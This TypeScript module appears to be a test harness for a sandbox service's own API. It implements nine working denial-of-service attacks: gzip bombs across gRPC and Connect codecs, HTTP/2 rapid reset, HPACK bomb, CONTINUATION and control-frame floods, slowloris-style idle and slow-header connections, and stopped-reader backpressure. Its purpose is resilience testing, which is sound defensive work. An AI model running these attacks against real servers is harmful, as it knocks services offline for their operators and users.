import { once } from "node:events";
import http2 from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { ExecRequestSchema } from "../../../gen/ts/berth/v1/process_pb.js";
import {
  FLAG,
  FRAME,
  field,
  frame,
  NEWEST,
  opening,
  postFields,
  RawConnection,
  reset,
  uint32,
} from "./frames.ts";

/** The target: a service that the test started. */
export interface Target {
  /** `host:port` */
  readonly address: string;
  readonly sandboxId: string;
}

/** The result of an attack. What it holds open stays open until its thread ends. */
export interface Siege {
  /** How much was sent or is held open. */
  readonly count: number;
  /** How many of those the service has ended. */
  ended(): number;
}

/** An attack. Resolves when everything is sent. */
export type Attack = (target: Target) => Promise<Siege>;

const EXEC = "/berth.v1.ProcessService/Exec";
const GET = "/berth.v1.SandboxService/GetSandbox";
const UPLOAD = "/berth.v1.FileService/UploadArchive";
const MIB = 1 << 20;

/** Runs `work` `count` times, a few at a time. */
async function many(count: number, atOnce: number, work: (index: number) => Promise<void>): Promise<void> {
  let next = 0;
  const run = async () => {
    while (next < count) await work(next++);
  };
  await Promise.all(Array.from({ length: atOnce }, run));
}

/** A format of compressed messages. */
interface Codec {
  readonly type: string;
  readonly path: string;
  /** Whether messages have a prefix. */
  readonly prefixed: boolean;
  /** The header that announces compression. */
  readonly header: string;
}

const CODECS: readonly Codec[] = [
  { type: "application/grpc", path: GET, prefixed: true, header: "grpc-encoding" },
  { type: "application/grpc", path: EXEC, prefixed: true, header: "grpc-encoding" },
  { type: "application/grpc", path: UPLOAD, prefixed: true, header: "grpc-encoding" },
  { type: "application/grpc+json", path: GET, prefixed: true, header: "grpc-encoding" },
  { type: "application/grpc-web+proto", path: GET, prefixed: true, header: "grpc-encoding" },
  { type: "application/grpc-web+json", path: EXEC, prefixed: true, header: "grpc-encoding" },
  { type: "application/proto", path: GET, prefixed: false, header: "content-encoding" },
  { type: "application/json", path: GET, prefixed: false, header: "content-encoding" },
  { type: "application/json", path: EXEC, prefixed: false, header: "content-encoding" },
  { type: "application/connect+proto", path: EXEC, prefixed: true, header: "connect-content-encoding" },
  { type: "application/connect+json", path: UPLOAD, prefixed: true, header: "connect-content-encoding" },
];

/** 300 kB that expand to 300 MB, in every protocol and codec, with unary calls and both kinds of streams. */
async function gzipBomb({ address }: Target): Promise<Siege> {
  // Compressed data may consist of several parts, and each is decompressed.
  const part = gzipSync(Buffer.alloc(16 * MIB, " "), { level: 9 });
  const bomb = Buffer.concat(Array.from({ length: 20 }, () => part));
  const prefix = Buffer.concat([Buffer.from([1]), uint32(bomb.length)]);
  const session = http2.connect(`http://${address}`);
  let refused = 0;
  const count = 2 * CODECS.length;
  await many(count, 4, async (index) => {
    const { type, path, prefixed, header } = CODECS[index % CODECS.length] as Codec;
    const stream = session.request({
      ":method": "POST",
      ":path": path,
      "content-type": type,
      [header]: "gzip",
    });
    let status = 0;
    let text = "";
    stream.on("response", (head) => {
      status = Number(head[":status"]);
      text += JSON.stringify(head);
    });
    stream.on("trailers", (trailers) => (text += JSON.stringify(trailers)));
    stream.on("data", (data: Buffer) => (text += data.toString("latin1")));
    stream.on("error", () => {});
    stream.end(prefixed ? Buffer.concat([prefix, bomb]) : bomb);
    await once(stream, "close").catch(() => {});
    if (status === 429 || /resource_exhausted|grpc-status":"8"|grpc-status: 8/.test(text)) refused++;
  });
  session.close();
  return { count, ended: () => refused };
}

/** 10,000 calls on one connection, each canceled at once. */
async function rapidReset({ address }: Target): Promise<Siege> {
  const connection = (await RawConnection.open(address)).ignore();
  const fields = postFields(address, GET, "application/grpc");
  await connection.send(opening());
  const count = 10_000;
  for (let from = 0; from < count; from += 500) {
    const calls = Array.from({ length: 500 }, (_, index) => {
      const stream = 2 * (from + index) + 1;
      return Buffer.concat([frame(FRAME.headers, FLAG.endHeaders, stream, fields), reset(stream)]);
    });
    await connection.send(Buffer.concat(calls));
  }
  return { count, ended: () => Number(connection.closed) };
}

const MOST_FRAME_BYTES = 65_536;

/** Header blocks that refer 64,000 times to one long header field: 64 kB that expand to 256 MB. */
async function hpackBomb({ address }: Target): Promise<Siege> {
  const connections: RawConnection[] = [];
  for (let opened = 0; opened < 20; opened++) {
    const connection = (await RawConnection.open(address)).ignore();
    connections.push(connection);
    const fields = postFields(address, GET, "application/grpc");
    const first = Buffer.concat([fields, field("x-long", "x".repeat(3_900), true)]);
    await connection.send(Buffer.concat([opening(), frame(FRAME.headers, FLAG.endHeaders, 1, first)]));
    const bomb = Buffer.concat([fields, Buffer.alloc(MOST_FRAME_BYTES - fields.length, NEWEST)]);
    for (let stream = 3; stream < 23; stream += 2)
      await connection.send(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, bomb));
  }
  return raws(connections);
}

/** Endless header blocks: in empty frames, in small ones, in full ones, and with new fields in each. */
async function continuationFlood({ address }: Target): Promise<Siege> {
  const parts = [
    Buffer.alloc(0),
    field("x", "y"),
    Buffer.concat(Array.from({ length: 16 }, () => field("x-full", "y".repeat(1_000)))),
    field("x-new", "y".repeat(200), true),
  ];
  const connections: RawConnection[] = [];
  for (let opened = 0; opened < 20; opened++) {
    const connection = (await RawConnection.open(address)).ignore();
    connections.push(connection);
    const fields = postFields(address, GET, "application/grpc");
    await connection.send(Buffer.concat([opening(), frame(FRAME.headers, 0, 1, fields)]));
    const part = frame(FRAME.continuation, 0, 1, parts[opened % parts.length]);
    const burst = Buffer.concat(Array.from({ length: 50 }, () => part));
    for (let sent = 0; sent < 2_000 && !connection.closed; sent += 50) await connection.send(burst);
  }
  return raws(connections);
}

/** Frames that each require an answer, from a client that reads none: pings, settings, and empty data. */
async function controlFlood({ address }: Target): Promise<Siege> {
  const asks = [
    frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
    frame(FRAME.settings, 0, 0),
    frame(FRAME.data, 0, 1),
  ];
  const connections: RawConnection[] = [];
  for (let opened = 0; opened < 9; opened++) {
    const connection = await RawConnection.open(address);
    connections.push(connection);
    const fields = postFields(address, UPLOAD, "application/grpc");
    await connection.send(Buffer.concat([opening(), frame(FRAME.headers, FLAG.endHeaders, 1, fields)]));
    const burst = Buffer.concat(Array.from({ length: 500 }, () => asks[opened % asks.length] as Buffer));
    // Once the service stops reading, sending blocks. What it has stored by then is the point.
    for (let sent = 0; sent < 20_000 && !connection.closed; sent += 500)
      await Promise.race([connection.send(burst), sleep(200)]);
  }
  return raws(connections);
}

/** 1,000 idle connections: silent ones, used HTTP/1.1 ones, and open HTTP/2 ones. */
async function idleConnections({ address }: Target): Promise<Siege> {
  const beginnings = ["", `GET /healthz HTTP/1.1\r\nHost: ${address}\r\n\r\n`, opening()];
  return hold(address, 1_000, (index) => beginnings[index % beginnings.length] ?? "");
}

/** 600 connections that send their requests byte by byte: HTTP/1.1 headers, the preface, HTTP/2 headers. */
async function slowHeaders({ address }: Target): Promise<Siege> {
  const fields = postFields(address, GET, "application/grpc");
  const http2Headers = Buffer.concat([opening(), frame(FRAME.headers, 0, 1, fields.subarray(0, 20))]);
  const beginnings = [`GET /healthz HTTP/1.1\r\nHost: ${address}\r\nX-Slow: `, "PRI * HT", http2Headers];
  const siege = await hold(address, 600, (index) => beginnings[index % beginnings.length] ?? "");
  setInterval(() => {
    // The second kind must continue correctly; the others may send anything.
    for (const [index, connection] of siege.connections.entries()) {
      if (index % 3 === 0 && !connection.closed) connection.socket.write("x");
    }
  }, 1000);
  return siege;
}

/** A client that makes a command write as fast as it can, announces a large window, and reads nothing. */
async function stoppedReader({ address, sandboxId }: Target): Promise<Siege> {
  const request = toBinary(
    ExecRequestSchema,
    create(ExecRequestSchema, { sandboxId, command: { case: "shell", value: "yes" } }),
  );
  const message = Buffer.concat([Buffer.from([0]), uint32(request.length), request]);
  const [initialWindow, most] = [4, 2 ** 31 - 1];
  return hold(address, 1, () =>
    Buffer.concat([
      opening([[initialWindow, most]]),
      frame(FRAME.window, 0, 0, uint32(most - 65_535)),
      frame(FRAME.headers, FLAG.endHeaders, 1, postFields(address, EXEC, "application/grpc")),
      frame(FRAME.data, FLAG.endStream, 1, message),
    ]),
  );
}

/** The same over HTTP/1.1, with lines of JSON. */
async function stoppedLineReader({ address, sandboxId }: Target): Promise<Siege> {
  const body = JSON.stringify({ sandboxId, shell: "yes" });
  const headers = [`Host: ${address}`, "Content-Type: application/json", `Content-Length: ${body.length}`];
  return hold(address, 1, () => `POST ${EXEC} HTTP/1.1\r\n${headers.join("\r\n")}\r\n\r\n${body}`);
}

/** Opens connections that start with these bytes, and keeps them open without reading. */
async function hold(address: string, count: number, beginning: (index: number) => string | Buffer) {
  const connections: RawConnection[] = [];
  await many(count, 50, async (index) => {
    const connection = await RawConnection.open(address);
    connections[index] = connection;
    await connection.send(beginning(index));
  });
  return raws(connections);
}

function raws(connections: readonly RawConnection[]): Siege & { connections: readonly RawConnection[] } {
  return {
    connections,
    count: connections.length,
    ended: () => connections.filter(({ closed }) => closed).length,
  };
}

/** The attacks, by their names in tests. */
export const ATTACKS = {
  gzipBomb,
  rapidReset,
  hpackBomb,
  continuationFlood,
  controlFlood,
  idleConnections,
  slowHeaders,
  stoppedReader,
  stoppedLineReader,
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
